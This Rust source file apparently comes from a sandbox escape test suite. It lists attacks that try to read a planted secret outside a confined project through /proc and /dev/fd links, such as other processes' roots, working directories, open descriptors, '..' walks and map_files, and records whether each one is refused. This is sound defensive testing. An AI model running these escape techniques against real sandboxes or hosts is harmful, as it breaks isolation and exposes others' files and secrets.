//! The links below `/proc` that lead to where a process stands instead of to a path. T8

use std::fs;
use std::os::fd::AsRawFd;
use std::path::{Path, PathBuf};

use crate::attack::{Attack, Outcome, Refused, Scene};

pub(crate) const ATTACKS: &[Attack] = &[
    Attack::new("T8", "proc-self-root", "reads through `/proc/self/root`", |scene| {
        read_below(Path::new("/proc/self/root"), scene)
    })
    .steals(),
    Attack::new("T8", "proc-overseer-root", "reads through `/proc/1/root`", |scene| {
        read_below(&PathBuf::from(format!("/proc/{}/root", scene.overseer)), scene)
    })
    .steals(),
    Attack::new("T8", "proc-victim-root", "reads through a host process's root", |scene| {
        read_below(&PathBuf::from(format!("/proc/{}/root", scene.victim.pid)), scene)
    })
    .steals(),
    Attack::new("T8", "proc-victim-descriptor", "reads a host process's open file", |scene| {
        let link = format!("/proc/{}/fd/{}", scene.victim.pid, scene.victim.descriptor);
        Ok(Outcome::of_reading(&fs::read(link)?))
    })
    .steals(),
    Attack::new(
        "T8",
        "proc-overseer-descriptors",
        "reads every file that pid 1 has open",
        read_all_descriptors,
    )
    .steals(),
    Attack::new("T8", "proc-overseer-cwd", "walks up from where pid 1 stands", |scene| {
        let cwd = PathBuf::from(format!("/proc/{}/cwd", scene.overseer));
        // Far enough up to be at the root whatever the directory was.
        let root = cwd.join("../../../../../../../../../../../..");
        read_below(&root, scene)
    })
    .steals(),
    Attack::new("T8", "proc-descriptor-upward", "walks up from its own descriptor", |scene| {
        let directory = fs::File::open(&scene.project)?;
        let link = format!("/proc/self/fd/{}/../../outside/secret", directory.as_raw_fd());
        Ok(Outcome::of_reading(&fs::read(link)?))
    })
    .steals(),
    Attack::new("T8", "dev-descriptor-upward", "walks up from `/dev/fd`", |scene| {
        let directory = fs::File::open(&scene.project)?;
        let link = format!("/dev/fd/{}/../../outside/secret", directory.as_raw_fd());
        Ok(Outcome::of_reading(&fs::read(link)?))
    })
    .steals(),
    Attack::new("T8", "proc-map-files", "reopens what pid 1 has mapped", |scene| {
        let directory = format!("/proc/{}/map_files", scene.overseer);
        let count = fs::read_dir(directory)?.count();
        Ok(Outcome::Succeeded(format!("{count} mappings are in reach")))
    }),
];

fn read_below(root: &Path, scene: &Scene<'_>) -> Result<Outcome, Refused> {
    let secret = scene.secret();
    let path = root.join(secret.strip_prefix("/").unwrap_or(&secret));
    Ok(Outcome::of_reading(&fs::read(path)?))
}

fn read_all_descriptors(scene: &Scene<'_>) -> Result<Outcome, Refused> {
    let directory = format!("/proc/{}/fd", scene.overseer);
    let mut count = 0;
    for entry in fs::read_dir(directory)?.flatten() {
        count += 1;
        if !fs::metadata(entry.path()).is_ok_and(|metadata| metadata.is_file()) {
            continue;
        }
        if let Ok(bytes) = fs::read(entry.path())
            && let outcome @ Outcome::Succeeded(_) = Outcome::of_reading(&bytes)
        {
            return Ok(outcome);
        }
    }
    Ok(Outcome::Failed(format!("{count} descriptors, and no secret in them")))
}
